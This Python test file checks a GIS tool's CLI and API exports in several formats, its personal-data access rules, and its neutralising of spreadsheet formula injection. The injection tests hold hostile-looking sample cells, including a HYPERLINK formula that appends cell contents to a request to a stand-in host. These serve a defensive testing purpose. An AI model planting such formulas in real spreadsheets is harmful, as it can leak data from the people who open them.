"""Exports for other GIS tools, as users get them: ``gridmap export`` in a real process and
``GET /api/export/…`` from a real server, on SpatiaLite and PostGIS; every file opened by GDAL's
``ogrinfo``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import unquote

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
import uvicorn
from factories import LAT0, LON0, buildings_frame, square, write_gbk_shapefile
from servers import ADMIN, TOKENS, add_test_accounts, admin_client, headers
from sqlalchemy import select

from gridmap.api.app import create_app
from gridmap.cli import DEMO_DATA, load_demo
from gridmap.config import Settings
from gridmap.exporting import export_layer
from gridmap.io.write import MEDIA_TYPES, write_csv_table, write_frame
from gridmap.layers import LAYERS
from gridmap.loading import load_file
from gridmap.runs import run_analyze
from gridmap.store.db import make_engine
from gridmap.store.features import layer_counts, read_features
from gridmap.store.models import ChangeLog
from gridmap.store.results import latest_run, read_branch_proposals, read_gaps

FORMATS = ("geojson", "gpkg", "csv")
PERSONAL = LAYERS["member"].personal_fields  # name, phone, address


# --- helpers --------------------------------------------------------------------------------


def gridmap(*args, url: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "GRIDMAP_DATABASE_URL": url, "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "gridmap.cli", *map(str, args)],
        capture_output=True, text=True, env=env, timeout=120,
    )  # fmt: skip


def ogrinfo(path: Path) -> tuple[int, list[str]]:
    """Feature count and field names as GDAL's ``ogrinfo -ro -al -so`` reports them."""
    info = subprocess.run(
        ["ogrinfo", "-ro", "-al", "-so", str(path)], capture_output=True, text=True, timeout=60
    )
    assert info.returncode == 0, info.stderr
    assert "ERROR" not in info.stderr, info.stderr
    count = int(re.search(r"^Feature Count: (\d+)$", info.stdout, re.M).group(1))
    fields = re.findall(r"^(\S[^:\n]*): \w+(?:\(\w+\))? \(\d+\.\d+\)$", info.stdout, re.M)
    return count, fields


def expected_fields(frame, fmt: str) -> list[str]:
    """The columns a file should carry: the frame's, plus coordinates or WKT in CSV."""
    columns = [c for c in frame.columns if c != frame.geometry.name]
    if fmt != "csv":
        return columns
    points = (frame.geometry.geom_type == "Point").all()
    return [*columns, "经度", "纬度"] if points else [*columns, "wkt"]


def stored(engine, what: str):
    with engine.connect() as conn:
        if what == "gaps":
            return read_gaps(conn, latest_run(conn, "analyze"))
        if what == "proposals":
            return read_branch_proposals(conn, latest_run(conn, "analyze"))
        frame = read_features(conn, what)
    return frame.drop(columns=["id"] + (["properties"] if LAYERS[what].personal_fields else []))


def rings(geometry: dict):
    """(exterior?, coordinates) of every ring of a GeoJSON (Multi)Polygon."""
    polygons = {"Polygon": [geometry["coordinates"]], "MultiPolygon": geometry["coordinates"]}
    for polygon in polygons.get(geometry["type"], []):
        for i, ring in enumerate(polygon):
            yield i == 0, ring


def coordinates(value):
    if isinstance(value, list) and value and not isinstance(value[0], list):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from coordinates(item)


def assert_rfc7946(text: str) -> None:
    """WGS84 lon/lat, counter-clockwise exteriors and clockwise holes, ≤ 7 decimals, no crs."""
    literal = json.loads(text, parse_float=str)  # the numbers as written
    assert literal["type"] == "FeatureCollection" and "crs" not in literal
    numbers = [v for f in literal["features"] if f["geometry"]
               for xy in coordinates(f["geometry"]["coordinates"]) for v in xy]  # fmt: skip
    assert numbers and max(len(v.partition(".")[2]) for v in numbers) <= 7
    doc = json.loads(text)
    n_rings = 0
    for feature in doc["features"]:
        if not feature["geometry"]:
            continue
        for lon, lat in coordinates(feature["geometry"]["coordinates"]):
            assert 73 < lon < 136 and 3 < lat < 54  # lon/lat in China, not metres or lat/lon
        for exterior, ring in rings(feature["geometry"]):
            assert shapely.LinearRing(ring).is_ccw == exterior
            n_rings += 1
    assert n_rings > 0


def has_clockwise_exterior(frame) -> bool:
    polygons = shapely.get_parts(frame.geometry.dropna().values)
    polygons = polygons[shapely.get_type_id(polygons) == 3]
    return bool((~shapely.is_ccw(shapely.get_exterior_ring(polygons))).any())


# --- fixtures -------------------------------------------------------------------------------


@pytest.fixture
def analysed(engine, db_settings):
    """The demo subdistrict loaded through the import path and analysed."""
    load_demo(engine, DEMO_DATA)
    run_analyze(engine, db_settings)
    return engine


@pytest.fixture
def api(db_settings):
    """An HTTP client on a real uvicorn server of the app, on this test's database."""
    config = uvicorn.Config(create_app(db_settings), host="127.0.0.1", port=0, log_level="warning")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline and thread.is_alive(), "server did not start"
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    TOKENS[f"http://127.0.0.1:{port}"] = add_test_accounts(db_settings.database_url)
    with admin_client(base_url=f"http://127.0.0.1:{port}", timeout=60) as client:
        yield client
    server.should_exit = True
    thread.join(timeout=10)


# --- the demo: every format of a layer, the gaps and the proposals ---------------------------

TARGETS = {"building": "楼栋", "gaps": "留白与问题", "proposals": "组织建议"}


def test_cli_writes_a_layer_gaps_and_proposals_that_gdal_opens(analysed, db_settings, tmp_path):
    # every target once and every format once; the API test below covers each combination
    for (what, chinese), fmt in zip(TARGETS.items(), ("gpkg", "csv", "geojson"), strict=True):
        frame = stored(analysed, what)
        assert len(frame) > 0
        out = tmp_path / f"{chinese}.{fmt}"
        result = gridmap("export", what, "-o", out, url=db_settings.database_url)
        assert result.returncode == 0, result.stderr
        assert f"{len(frame)} 个要素" in result.stdout
        assert ogrinfo(out) == (len(frame), expected_fields(frame, fmt)), (what, fmt)


def assert_csv_matches(raw: bytes, frame) -> None:
    """UTF-8 with a BOM, the frame's rows, and its geometry in lon/lat to 7 decimals."""
    assert raw.startswith(b"\xef\xbb\xbf" + frame.columns[0].encode() + b",")
    table = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False)
    columns = [c for c in frame.columns if c != frame.geometry.name]
    assert table.columns.tolist()[: len(columns)] == columns
    assert table[columns[0]].astype(str).tolist() == frame[columns[0]].astype(str).tolist()
    if "wkt" in table:
        geoms = shapely.from_wkt(table["wkt"].replace("", None).to_numpy())
    else:
        geoms = shapely.points(table[["经度", "纬度"]].to_numpy())
    assert shapely.equals_exact(geoms, frame.geometry.values, tolerance=1e-7).all()


def test_api_downloads_of_a_layer_gaps_and_proposals_open_in_gdal_and_follow_their_format(
    analysed, api, tmp_path
):
    media = {"geojson": "application/geo+json", "gpkg": "application/geopackage+sqlite3",
             "csv": "text/csv"}  # fmt: skip
    assert has_clockwise_exterior(stored(analysed, "gaps"))  # so that ring orientation is tested
    for what, chinese in TARGETS.items():
        frame = stored(analysed, what)
        for fmt in FORMATS:
            response = api.get(f"/api/export/{what}", params={"format": fmt})
            assert response.status_code == 200, response.text
            assert response.headers["content-type"].startswith(media[fmt])
            disposition = response.headers["content-disposition"]
            assert disposition.startswith(f'attachment; filename="{what}.{fmt}"; filename*=')
            encoded = disposition.split("filename*=UTF-8''")[1]
            assert encoded.isascii() and unquote(encoded) == f"{chinese}.{fmt}"
            out = tmp_path / f"{what}.{fmt}"
            out.write_bytes(response.content)
            assert ogrinfo(out) == (len(frame), expected_fields(frame, fmt)), (what, fmt)
            if fmt == "geojson":
                assert_rfc7946(response.text)
            elif fmt == "csv":
                assert_csv_matches(response.content, frame)
    assert "留白" in api.get("/api/export/gaps", params={"format": "csv"}).content.decode()


def test_grid_layers_export_by_name_and_chinese_file_name(analysed, api, tmp_path):
    party = api.get("/api/export/grid:party")
    same = api.get("/api/export/grid", params={"grid_layer": "party"})
    assert party.status_code == same.status_code == 200 and party.content == same.content
    assert unquote(party.headers["content-disposition"]).endswith("党建网格.geojson")
    assert_rfc7946(party.text)
    with analysed.connect() as conn:
        n = len(read_features(conn, "grid", grid_layer="party"))
    assert [f["properties"]["layer"] for f in json.loads(party.text)["features"]] == ["party"] * n


# --- personal data ------------------------------------------------------------------------


def members_with_an_unmapped_column(path: Path) -> Path:
    header = "党员编号,姓名,手机号码,家庭住址,党员类别,身份证号,经度,纬度\n"
    row = f"M1,张演示甲,10090000001,锦绣花园1栋101,正式党员,510100199001011234,{LON0},{LAT0}\n"
    path.write_bytes((header + row).encode("utf-8-sig"))
    return path


PERSONAL_VALUES = ("张演示甲", "10090000001", "锦绣花园1栋101", "510100199001011234")


def assert_nothing_personal(path: Path) -> None:
    count, fields = ogrinfo(path)
    assert count == 1 and "code" in fields
    assert not set(fields) & {*PERSONAL, "properties"}, (path, fields)
    content = path.read_bytes()
    assert not [v for v in PERSONAL_VALUES if v.encode() in content], path


def test_personal_fields_stay_out_of_exports_by_default(engine, db_settings, api, tmp_path):
    load_file(engine, "member", members_with_an_unmapped_column(tmp_path / "党员.csv"))
    result = gridmap("export", "member", "-o", tmp_path / "cli.gpkg", url=db_settings.database_url)
    assert result.returncode == 0, result.stderr
    assert_nothing_personal(tmp_path / "cli.gpkg")
    for fmt in FORMATS:
        out, _ = export_layer(engine, "member", tmp_path / f"function.{fmt}")
        assert_nothing_personal(out)
        response = api.get("/api/export/member", params={"format": fmt})
        assert response.status_code == 200
        (tmp_path / f"api.{fmt}").write_bytes(response.content)
        assert_nothing_personal(tmp_path / f"api.{fmt}")
    with engine.connect() as conn:
        # the import, and the test accounts with their tokens (no export of personal data)
        actions = [a for (a,) in conn.execute(select(ChangeLog.action))]
    assert "export_personal" not in actions and actions.count("import") == 1


def test_personal_fields_only_when_asked_on_the_command_line_and_recorded(
    engine, db_settings, tmp_path
):
    load_file(engine, "member", members_with_an_unmapped_column(tmp_path / "党员.csv"))
    out = tmp_path / "党员.gpkg"
    result = gridmap(
        "export", "member", "-o", out, "--include-personal", url=db_settings.database_url
    )
    assert result.returncode == 0, result.stderr
    _, fields = ogrinfo(out)
    assert {*PERSONAL, "properties"} <= set(fields)
    content = out.read_bytes()
    assert all(v.encode() in content for v in PERSONAL_VALUES)
    with engine.connect() as conn:
        assert layer_counts(conn)["change_log"] == 2  # the import, and this export


def test_api_gives_personal_fields_only_to_roles_that_may_and_records_each_export(engine, api, tmp_path):  # fmt: skip
    load_file(engine, "member", members_with_an_unmapped_column(tmp_path / "党员.csv"))
    base = str(api.base_url).rstrip("/")
    for fmt in FORMATS:
        for name in ("查看者", "规划员甲"):
            response = api.get("/api/export/member", params={"format": fmt, "include_personal": "true"}, headers=headers(base, name))  # fmt: skip
            assert response.status_code == 403
            body = response.json()
            assert body["error"] == "PermissionDeniedError" and name in body["message_zh"]
            assert "个人信息" in body["message_zh"] and "personal" in body["message_en"]
            assert not [v for v in PERSONAL_VALUES if v in response.text]
        response = api.get("/api/export/member", params={"format": fmt, "include_personal": "true"})
        assert response.status_code == 200
        assert all(v.encode() in response.content for v in PERSONAL_VALUES)
    with engine.connect() as conn:
        exports = conn.execute(select(ChangeLog.actor, ChangeLog.summary).where(ChangeLog.action == "export_personal")).all()  # fmt: skip
    assert [actor for actor, _ in exports] == [ADMIN] * len(FORMATS)
    assert sorted(s["format"] for _, s in exports) == sorted(FORMATS)


# --- errors -------------------------------------------------------------------------------


def test_api_errors_are_bilingual_and_name_what_exists(engine, api, tmp_path):
    unknown = api.get("/api/export/streets")
    assert unknown.status_code == 404
    for layer in (*LAYERS, "gaps", "proposals"):
        assert layer in unknown.json()["message_zh"] and layer in unknown.json()["message_en"]
    bad = api.get("/api/export/building", params={"format": "shp"})
    assert bad.status_code == 400
    assert "shp" in bad.json()["message_zh"] and "gpkg" in bad.json()["message_en"]
    no_analysis = api.get("/api/export/gaps")
    assert no_analysis.status_code == 404 and "gridmap analyze" in no_analysis.json()["message_en"]
    no_grid = api.get("/api/export/grid")
    assert no_grid.status_code == 404 and "grid_layer" in no_grid.json()["message_en"]


def test_cli_errors_exit_2_without_a_traceback(db_settings, tmp_path):
    url = db_settings.database_url
    unknown = gridmap("export", "streets", "-o", tmp_path / "x.csv", url=url)
    assert unknown.returncode == 2 and "没有图层 streets" in unknown.stderr
    assert "proposals" in unknown.stderr and "Traceback" not in unknown.stderr
    shapefile = gridmap("export", "building", "-o", tmp_path / "x.shp", url=url)
    assert shapefile.returncode == 2 and "不支持的导出格式 shp" in shapefile.stderr
    no_analysis = gridmap("export", "proposals", "-o", tmp_path / "p.gpkg", url=url)
    assert no_analysis.returncode == 2 and "gridmap analyze" in no_analysis.stderr
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "p.gpkg").exists()


# --- the writer on hand-made geometry -----------------------------------------------------


def test_writer_orients_rings_reprojects_to_lon_lat_and_keeps_seven_decimals(tmp_path):
    clockwise = shapely.Polygon(
        [(104.0, 30.0), (104.0, 30.01), (104.01, 30.01), (104.01, 30.0)],
        [[(104.002, 30.002), (104.008, 30.002), (104.008, 30.008), (104.002, 30.008)]],
    )
    assert not clockwise.exterior.is_ccw and clockwise.interiors[0].is_ccw
    frame = gpd.GeoDataFrame(
        {"code": ["A"], "name": ["一号网格"]}, geometry=[clockwise], crs=4326
    ).to_crs(4544)  # CGCS2000 3-degree zone 35: metres
    assert_rfc7946(write_frame(frame, tmp_path / "a.geojson", None, "a").read_text("utf-8"))
    wkt = pd.read_csv(write_frame(frame, tmp_path / "a.csv", None, "a"), encoding="utf-8-sig")
    assert shapely.from_wkt(wkt["wkt"][0]).equals_exact(clockwise, 1e-7)  # lon/lat, not metres
    points = gpd.GeoDataFrame(
        {"code": ["P", "Q"]}, geometry=[shapely.Point(104.123456789, 30.5), None], crs=4326
    )
    text = write_frame(points, tmp_path / "p.csv", "csv", "p").read_text("utf-8-sig")
    assert text.splitlines() == ["code,经度,纬度", "P,104.1234568,30.5", "Q,,"]


def test_geopackage_is_written_as_version_1_2_for_older_gis(tmp_path):
    frame = gpd.GeoDataFrame({"code": ["A"]}, geometry=[shapely.Point(104, 30)], crs=4326)
    out = write_frame(frame, tmp_path / "a.gpkg", "gpkg", "a")
    with sqlite3.connect(out) as db:
        assert db.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47  # 'GPKG'
        assert db.execute("PRAGMA user_version").fetchone()[0] == 10200


@pytest.mark.parametrize("fmt", ["gpkg", "geojson"])
def test_whole_numbers_and_yes_no_with_gaps_stay_numbers_and_booleans_for_gis(tmp_path, fmt):
    # a masked member count is missing, not text: QGIS must still sum and sort the column
    frame = gpd.GeoDataFrame(
        {"members": pd.array([82, None], dtype="Int64"), "ok": pd.array([True, None], dtype="boolean")},
        geometry=[shapely.Point(104, 30), shapely.Point(104.1, 30)], crs=4326,
    )  # fmt: skip
    out = write_frame(frame, tmp_path / f"a.{fmt}", fmt, "a")
    info = pyogrio.read_info(out)
    assert dict(zip(info["fields"], info["dtypes"], strict=True)) in (
        {"members": "int64", "ok": "bool"}, {"members": "int32", "ok": "bool"},
    )  # fmt: skip
    if fmt == "geojson":
        props = [f["properties"] for f in json.loads(out.read_text())["features"]]
        assert props == [{"members": 82, "ok": True}, {"members": None, "ok": None}]


# --- spreadsheets: XLSX, and cells that a spreadsheet would run as formulas ------------------

HYPERLINK = '=HYPERLINK("http://x"&A2,"点击")'
FORMULA_NAMES = (HYPERLINK, "+86 100", "-一号院", "@SUM(A1)")


def compounds_named_like_formulas(path: Path) -> Path:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["小区编号", "小区名称", "wkt"])
    for i, name in enumerate(FORMULA_NAMES):
        writer.writerow([f"C{i}", name, square(i, 0).wkt])
    path.write_text(out.getvalue(), encoding="utf-8-sig")
    return path


def xlsx_rows(content: bytes) -> list[list]:
    """The first sheet's rows as openpyxl reads them: (value, data type) of every cell."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    # _x000D_: the OOXML escape of a carriage return, which Excel reads back and openpyxl keeps
    unescape = lambda v: v.replace("_x000D_", "\r") if isinstance(v, str) else v  # noqa: E731
    return [[(unescape(c.value), c.data_type) for c in row] for row in sheet.iter_rows()]


def test_formula_starts_come_out_inert_in_csv_and_xlsx(engine, db_settings, tmp_path):
    load_file(engine, "compound", compounds_named_like_formulas(tmp_path / "小区.csv"))
    inert = {f"C{i}": "'" + name for i, name in enumerate(FORMULA_NAMES)}
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        result = gridmap("export", "compound", "-o", out, url=db_settings.database_url)
        assert result.returncode == 0, result.stderr
        if fmt == "csv":
            rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
            assert {r["code"]: r["name"] for r in rows} == inert
            continue
        header, *rows = xlsx_rows(out.read_bytes())
        columns = [value for value, _ in header]
        names = {row[columns.index("code")][0]: row[columns.index("name")] for row in rows}
        assert {code: value for code, (value, _) in names.items()} == inert
        assert {kind for _, kind in names.values()} == {"s"}  # text cells, no formula among them


def test_negative_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not(tmp_path):
    frame = pd.DataFrame({
        "code": ["-3", "\t=1+1", "\r=1+1", "甲"],
        "delta": [-3.5, -1.0, 0.0, 2.0],
        "count": pd.array([-1, 2, None, 4], dtype="Int64"),
    })  # fmt: skip
    text = write_frame(frame, tmp_path / "t.csv", None, "t").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["code", "delta", "count"],
        ["'-3", "-3.5", "-1"],
        ["'\t=1+1", "-1.0", "2"],
        ["'\r=1+1", "0.0", ""],
        ["甲", "2.0", "4"],
    ]
    book = write_frame(frame, tmp_path / "t.xlsx", None, "t").read_bytes()
    assert xlsx_rows(book)[1:] == [
        [("'-3", "s"), (-3.5, "n"), (-1, "n")],
        [("'\t=1+1", "s"), (-1, "n"), (2, "n")],
        [("'\r=1+1", "s"), (0, "n"), (None, "n")],
        [("甲", "s"), (2, "n"), (4, "n")],
    ]


def test_integration_tables_are_spreadsheet_safe_too(tmp_path):
    crosswalk = pd.DataFrame({"unified": ["=1+1"], "party": ["@A1"], "area_m2": [-0.5]})
    text = write_csv_table(crosswalk, tmp_path / "crosswalk.csv").read_bytes().decode("utf-8-sig")
    assert text == "unified,party,area_m2\r\n'=1+1,'@A1,-0.5\r\n"


def test_xlsx_export_holds_the_csv_table_and_loads_back(engine, db_settings, tmp_path):
    load_file(engine, "building", write_gbk_shapefile(buildings_frame(), tmp_path / "b.shp"))
    frame = stored(engine, "building")
    out, n = export_layer(engine, "building", tmp_path / "楼栋.xlsx")
    assert n == 4
    header, *rows = xlsx_rows(out.read_bytes())
    assert [value for value, _ in header] == expected_fields(frame, "csv")  # same as CSV
    households = [row[[v for v, _ in header].index("households")] for row in rows]
    assert households == [(10, "n"), (20, "n"), (30, "n"), (40, "n")]
    again = tmp_path / "again.db"
    env = f"sqlite:///{again}"
    assert gridmap("init", url=env).returncode == 0
    loaded = gridmap("load", "building", out, url=env)
    assert loaded.returncode == 0, loaded.stderr
    reloaded = stored(make_engine(Settings(database_url=env)), "building")
    assert reloaded["code"].tolist() == frame["code"].tolist()
    assert reloaded["households"].tolist() == [10, 20, 30, 40]
    assert shapely.equals_exact(
        reloaded.geometry.values, frame.geometry.values, tolerance=1e-7
    ).all()


def test_api_xlsx_export_follows_the_personal_data_rules(engine, api, tmp_path):
    load_file(engine, "member", members_with_an_unmapped_column(tmp_path / "党员.csv"))
    base = str(api.base_url).rstrip("/")
    plain = api.get("/api/export/member", params={"format": "xlsx"})
    assert plain.status_code == 200
    assert plain.headers["content-type"] == MEDIA_TYPES["xlsx"]
    assert unquote(plain.headers["content-disposition"]).endswith("党员.xlsx")
    header, *rows = xlsx_rows(plain.content)
    assert len(rows) == 1 and "code" in [v for v, _ in header]
    assert not {v for v, _ in header} & {*PERSONAL, "properties"}
    cells = [str(v) for row in rows for v, _ in row]
    assert not [v for v in PERSONAL_VALUES if any(v in c for c in cells)]
    viewer = api.get("/api/export/member", params={"format": "xlsx", "include_personal": "true"}, headers=headers(base, "查看者"))  # fmt: skip
    assert viewer.status_code == 403
    full = api.get("/api/export/member", params={"format": "xlsx", "include_personal": "true"})
    cells = [str(v) for row in xlsx_rows(full.content)[1:] for v, _ in row]
    assert all(any(v in c for c in cells) for v in PERSONAL_VALUES)
